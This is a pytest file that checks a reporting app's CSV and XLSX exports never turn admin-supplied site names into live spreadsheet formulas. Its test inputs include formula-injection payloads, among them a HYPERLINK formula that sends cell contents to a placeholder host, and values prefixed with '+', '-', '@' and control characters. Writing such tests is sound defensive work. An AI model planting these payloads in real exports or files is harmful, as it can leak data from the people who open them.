"""An attacker who can name a site tries to plant a live formula in a supervisor's exports."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from counsel.audit import OPERATOR
from counsel.extensions import db
from counsel.models.site import Site
from counsel.models.user import Role
from counsel.reporting.exports import FORMULA_START
from counsel.services import accounts
from tests.reports.conftest import Fake, Visit, lay_down

QUARTER = "period=2025-Q2"
NAMED_BY_AN_ADMIN = ['=HYPERLINK("http://x"&A1,"Klick")', "+cmd", "-1+1", "@SUM(A1)",
                     "#N/A"]  # no formula, but openpyxl would write it as an error cell instead of text
# The site form strips leading white space, so these two come only from a row written some other way.
STORED_DIRECTLY = ["\tX", "\rX"]


def _evil_site(name: str) -> Site:
    if name in STORED_DIRECTLY:
        site = Site(code="EV", name=name, active=True)
        db.session.add(site)
    else:
        site = accounts.create_site("EV", name, actor=OPERATOR)
    db.session.commit()
    assert site.name == name
    return site


def _exports(name: str, make_user, signed_in) -> tuple[bytes, bytes]:
    """Both exports of a supervisor of the site with this name, over a quarter with enough people."""
    site = _evil_site(name)
    owner = make_user("erna", Role.ADVISER, at=site)
    supervisor = make_user("svenja", Role.SUPERVISOR, at=site)
    lay_down(owner, [Fake(site_id=site.id, opened=date(2025, 4, 1), visits=[Visit(date(2025, 5, 6))])
                     for _ in range(9)])
    browser = signed_in(supervisor)
    csv_file = browser.get(f"/reports/export.csv?{QUARTER}&sites={site.id}")
    xlsx_file = browser.get(f"/reports/export.xlsx?{QUARTER}&sites={site.id}")
    assert csv_file.status_code == xlsx_file.status_code == 200
    return csv_file.get_data(), xlsx_file.get_data()


@pytest.mark.parametrize("name", NAMED_BY_AN_ADMIN + STORED_DIRECTLY)
def test_a_site_name_never_becomes_a_formula(name, make_user, signed_in):
    csv_data, xlsx_data = _exports(name, make_user, signed_in)

    cells = [cell for row in csv.reader(io.StringIO(csv_data.decode("utf-8-sig"), newline="")) for cell in row]
    assert any(name in cell for cell in cells)  # the name is there, as data
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]

    with zipfile.ZipFile(io.BytesIO(xlsx_data)) as archive:
        sheets = [archive.read(part) for part in archive.namelist() if part.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in sheet or b"<f " in sheet for sheet in sheets)
    book = load_workbook(io.BytesIO(xlsx_data))
    try:
        written = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row
                   if cell.value is not None]
    finally:
        book.close()
    assert {cell.data_type for cell in written} <= {"s", "n"}
    as_xml_reads_it = name.replace("\r", "\n")  # XML turns a carriage return into a line feed
    assert any(as_xml_reads_it in cell.value for cell in written if isinstance(cell.value, str))
    assert not [cell.value for cell in written if isinstance(cell.value, str) and cell.value.startswith(FORMULA_START)]
    assert any(cell.data_type == "n" and cell.value == 9 for cell in written)  # figures stay numbers
